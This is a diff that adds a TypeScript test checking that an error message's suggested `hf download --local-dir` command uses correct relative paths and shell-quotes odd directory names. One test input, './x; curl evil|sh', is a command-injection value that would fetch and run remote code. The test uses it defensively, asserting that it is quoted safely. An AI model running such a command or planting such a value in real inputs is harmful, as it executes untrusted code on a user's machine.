@@ -33,6 +33,29 @@ describe('a base model of the checkout', () => {
     expect((await resolve()).directory).toBe(base)
   })
 
+  it('that is not there comes by a command that fetches it there, wherever that is typed and whatever its name is', async () => {
+    const commandFor = async (base: string, from: string): Promise<string> => {
+      const { context } = await withBase()
+      const here = join(context.bounds.directory, from)
+      await mkdir(here, { recursive: true })
+      const before = process.cwd()
+      process.chdir(here)
+      try {
+        const given = { ...context, spec: { base, task: 'text-classification' }, memo: new Map() }
+        const error = await resolveBase(given as unknown as StageContext).catch((thrown: unknown) => thrown)
+        const [, told = ''] = /--local-dir (.*)`, or name/.exec(String(error)) ?? []
+        return told.replace(context.bounds.directory, '/root')
+      } finally {
+        process.chdir(before)
+      }
+    }
+    expect(await commandFor('./lost', '.')).toBe('./lost')
+    expect(await commandFor('./models/lost', 'models')).toBe('./lost')
+    expect(await commandFor('./lost', 'models/x')).toBe('/root/lost')
+    expect(await commandFor("./it's my base", '.')).toBe("'./it'\\''s my base'")
+    expect(await commandFor('./x; curl evil|sh', 'models')).toBe("'/root/x; curl evil|sh'")
+  })
+
   it('has the same digest with and without what `hf download` notes of its download', async () => {
     const { base, resolve } = await withBase()
     const { digest } = await resolve()
